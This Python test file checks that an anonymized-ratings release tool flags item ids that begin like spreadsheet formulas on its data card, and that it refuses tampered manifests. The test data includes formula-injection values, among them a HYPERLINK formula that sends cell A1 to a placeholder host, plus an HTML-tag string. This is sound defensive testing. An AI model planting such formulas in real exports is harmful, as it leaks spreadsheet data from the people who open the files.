"""Ids of items that a spreadsheet would run: the card names them, and is compared."""

import json
import re
import shutil
from pathlib import Path

import forging
import numpy as np
import pyarrow.parquet as pq
import pytest

from recveil.methods import PredictiveAnonymizer
from recveil.methods.base import anonymize_hidden
from recveil.publish import Release
from recveil.ratings import Ratings, RatingScale
from recveil.release.data_card import data_card, in_quotes
from recveil.release.manifest import Manifest, to_bytes
from recveil.runtime.errors import RecveilError
from recveil.verification import other_files, verify

pytestmark = pytest.mark.usefixtures("synthetic")
NAMES = ['=HYPERLINK("http://a.example/?"&A1)', "@sum", "-5", "+1.5", "\tb", "Heat", "a=b", "Up"]
ANONYMIZER = PredictiveAnonymizer(3, seed=1, predictor="item-mean")


def table(names):
    """Twelve users who all rated all of these items, each in their own way."""
    rng = np.random.default_rng(0)
    users = np.repeat(np.arange(12), len(names))
    return Ratings.from_columns(
        users, list(names) * 12, rng.integers(1, 6, users.size), scale=RatingScale(1, 5, 1)
    )


@pytest.fixture(scope="module")
def made(tmp_path_factory, synthetic):
    folder = tmp_path_factory.mktemp("formulas")
    for name, ratings in (("some", table(NAMES)), ("none", table(["Heat", "-5", "Up", "a=b"]))):
        for form in ("csv", "parquet"):
            ANONYMIZER.anonymize(ratings).write(folder / f"{name}-{form}", file_format=form)
        for layout in ("users", "model"):
            drawn = synthetic(20.0, n_users=40).anonymize(ratings)
            drawn.write(folder / f"{name}-{layout}", layout=layout)
    return folder


FORMS = ["csv", "parquet", "users", "model"]


@pytest.fixture(params=FORMS)
def out(request, made, tmp_path):
    """A release with such ids, with or without users' rows, that a test may break."""
    return Path(shutil.copytree(made / f"some-{request.param}", tmp_path / "out"))


def result(folder):
    return json.loads((folder / "release.json").read_text())


def sign(folder, manifest):
    """Make the card and all digests fit to what release.json says now."""
    name = next(iter(manifest["files"]))
    (folder / "README.md").write_text(data_card(Manifest.from_json(manifest), name))
    (folder / "release.json").write_bytes(to_bytes(manifest))
    forging.sign(folder)


def refused(folder):
    try:
        return not verify(folder).holds
    except RecveilError:
        return True


def test_the_card_says_how_many_which_and_what_to_do(out):
    assert verify(out).holds
    card = (out / "README.md").read_text()
    assert "3 item ids begin like a formula" in card
    assert r'such as `"\tb"`' in card
    assert "Import `item_id` as text" in card


@pytest.mark.parametrize("form", FORMS)
def test_a_card_without_such_ids_says_nothing(made, form):
    assert verify(made / f"none-{form}").holds
    assert "formula" not in (made / f"none-{form}" / "README.md").read_text()
    assert "formulas" not in result(made / f"none-{form}")


def test_numbers_are_none(tmp_path):
    ANONYMIZER.anonymize(table([-5, -7, 3])).write(tmp_path / "out")
    assert "formula" not in (tmp_path / "out" / "README.md").read_text()


def test_hidden_items_have_none(tmp_path):
    hidden = anonymize_hidden(table(NAMES), ANONYMIZER, 1)
    Release(hidden.published, hidden.private).write(tmp_path / "out")
    assert "formulas" not in result(tmp_path / "out")


def test_ids_are_published_as_they_are(made):
    rows = pq.read_table(made / "some-parquet" / "ratings.parquet")
    assert set(rows["item_id"].to_pylist()) == set(NAMES)


def test_an_example_shows_nothing_and_ends_no_quotes(tmp_path):
    bad = "=`<img src=x>|\t# Anonymized ratings\x7f é" + "x" * 99
    ANONYMIZER.anonymize(table([bad, "Heat", "Up"])).write(tmp_path / "out")
    assert verify(tmp_path / "out").holds
    (shown,) = re.findall(
        "such as `(.*)`[.] A spreadsheet", (tmp_path / "out" / "README.md").read_text()
    )
    assert shown == in_quotes(bad[:40])
    assert shown.isascii()
    assert not set("`<>\n") & set(shown)
    assert json.loads(shown) == bad[:40]


@pytest.mark.parametrize(
    "change",
    [
        lambda formulas: formulas.update(items=2),
        lambda formulas: formulas.update(example="=SUM(A1)"),
        lambda formulas: formulas.update(example="alice is p1"),
        lambda formulas: formulas.update(example="x" * 41),
        lambda formulas: formulas.update(items=True),
        lambda formulas: formulas.update(note="alice"),
        lambda formulas: formulas.clear(),
    ],
    ids=["fewer", "another", "a note", "a long one", "no number", "more", "nothing"],
)
def test_what_is_stated_is_compared(out, change):
    manifest = result(out)
    change(manifest["formulas"])
    try:
        sign(out, manifest)
    except (RecveilError, KeyError):  # no card can be made of it
        (out / "release.json").write_bytes(to_bytes(manifest))
    assert refused(out)


@pytest.mark.parametrize("form", FORMS)
def test_formulas_that_are_not_there_are_not_stated(made, form, tmp_path):
    folder = Path(shutil.copytree(made / f"none-{form}", tmp_path / "out"))
    manifest = result(folder)
    files = manifest.pop("files")
    sign(folder, manifest | {"formulas": {"items": 1, "example": "=1"}, "files": files})
    assert any("files contain 0" in each.problem for each in verify(folder).violations)


def test_releases_of_before_say_nothing_on_the_card_but_in_the_verdict(out, monkeypatch):
    manifest = result(out)
    del manifest["formulas"]
    sign(out, manifest)
    monkeypatch.setattr(other_files, "FORMULAS_SINCE", manifest_number(manifest) + 1)
    assert verify(out).holds
    assert "formulas" in {limit.code for limit in verify(out).not_covered}


def test_later_ones_must_state_them(out, monkeypatch):
    manifest = result(out)
    del manifest["formulas"]
    sign(out, manifest)
    monkeypatch.setattr(other_files, "FORMULAS_SINCE", manifest_number(manifest))
    (violation,) = verify(out).violations
    assert violation.problem.startswith("states 0 item ids that begin like a formula")


def manifest_number(manifest):
    return Manifest.from_json(manifest).number


def test_a_format_that_does_not_know_them_is_refused(made, tmp_path):
    folder = Path(shutil.copytree(made / "some-csv", tmp_path / "out"))
    manifest = result(folder) | {"format": "recveil-release-3"}
    sign(folder, manifest)
    assert refused(folder)
